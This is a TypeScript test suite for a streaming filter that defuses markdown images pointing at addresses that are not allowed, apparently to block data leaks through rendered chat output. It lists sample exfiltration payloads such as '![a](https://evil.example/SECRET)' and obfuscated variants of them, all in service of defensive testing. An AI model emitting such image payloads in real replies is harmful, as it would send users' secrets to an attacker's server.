import fc from 'fast-check'
import { lexer, walkTokens, type Token } from 'marked'
import { expect, test } from 'vitest'
import { MarkdownPictures } from './markdown-pictures.ts'

const known = 'https://said.example/a.png'
const mayLoad = (address: string) => address === known

function filtered(pieces: readonly string[]): string {
  const filter = new MarkdownPictures(mayLoad)
  return pieces.map((piece) => filter.push(piece)).join('') + filter.end()
}

/** What a client would load, as a parser of its own sees it. */
function picturesIn(markdown: string): string[] {
  const found: string[] = []
  void walkTokens(lexer(markdown), (token: Token) => {
    if (token.type === 'image') found.push(String(token['href']))
  })
  return found
}

test.each([
  ['![a](https://evil.example/SECRET)', '[a](https://evil.example/SECRET)'],
  ['![](/api/widget/rss?url=x)', '[](/api/widget/rss?url=x)'],
  ['![a `]` b](https://evil.example/SECRET)', '[a `]` b](https://evil.example/SECRET)'],
  ['![a\nb](<https://evil.example/SECRET> "c")', '[a\nb](<https://evil.example/SECRET> "c")'],
  ['![a](&#104;ttps://evil.example/SECRET)', '[a](&#104;ttps://evil.example/SECRET)'],
  ['![a [b](c) d](https://evil.example/SECRET)', '[a [b](c) d](https://evil.example/SECRET)'],
  [`![a](${known}) ![b](https://evil.example/)`, `![a](${known}) [b](https://evil.example/)`],
  [`${'!'.repeat(40)}[a](https://evil.example/)`, `${'!'.repeat(39)} [a](https://evil.example/)`],
  [`[x]: https://evil.example/SECRET\n\n![x]`, `[x]: https://evil.example/SECRET\n\n[x]`],
  [`![y][x]\n\n[x]: https://evil.example/SECRET`, `![y][x]\n\n[x]\\: https://evil.example/SECRET`],
  [`![x]\n\n> [x]:\n> https://evil.example/`, `![x]\n\n> [x]\\:\n> https://evil.example/`],
])('%j becomes %j', (written, shown) => {
  expect(picturesIn(written).filter((address) => address !== known)).not.toEqual([])
  expect(filtered([written])).toBe(shown)
  expect(filtered(Array.from(written))).toBe(shown)
})

test.each([
  'Wow! [1] and more!',
  'let a = vec![1, 2];\n\nlet b = vec![x];',
  '```ts\ninterface A { [key: string]: string }\n```\n',
  '[a](https://b.example) and [c]: d',
  `![a](${known} "title")`,
  'Ends with a bang!',
  'x'.padEnd(100, '!'),
  'Ends with a bracket]',
])('%j stays as it is', (text) => {
  expect(filtered([text])).toBe(text)
  expect(filtered(Array.from(text))).toBe(text)
})

test('text that cannot be a picture is not held back', () => {
  const filter = new MarkdownPictures(mayLoad)
  expect(filter.push('Hello')).toBe('Hello')
  expect(filter.push(' world!')).toBe(' world')
  expect(filter.push(' Next')).toBe('! Next')
  expect(filter.push(`![${'x'.repeat(5_000)}`)).toHaveLength(5_001)
})

test('whatever is written in whatever pieces, a parser finds no picture that may not be loaded', () => {
  const part = fc.constantFrom(
    '!',
    '[',
    ']',
    '(',
    ')',
    '![',
    '](',
    '][',
    ']:',
    ':',
    '<',
    '>',
    '`',
    '\\',
    '\n',
    '\n\n',
    ' ',
    '"',
    '&#33;',
    'a',
    'x',
    '> ',
    '- ',
    '1. ',
    '    ',
    '```\n',
    '~~~',
    '*',
    '**',
    '<b>',
    '[x]: ',
    '![x]',
    '![](',
    '[]',
    'https://evil.example/S',
    '/api/x',
    known,
    '//evil.example',
    'data:image/png,x',
  )
  fc.assert(
    fc.property(fc.array(part, { maxLength: 25 }), fc.nat(), (parts, cut) => {
      const text = parts.join('')
      const at = text === '' ? 0 : cut % text.length
      const shown = filtered([text.slice(0, at), text.slice(at)])
      expect(picturesIn(shown).filter((address) => address !== known)).toEqual([])
      expect(filtered(Array.from(text))).toBe(shown)
    }),
    { numRuns: 3_000 },
  )
})
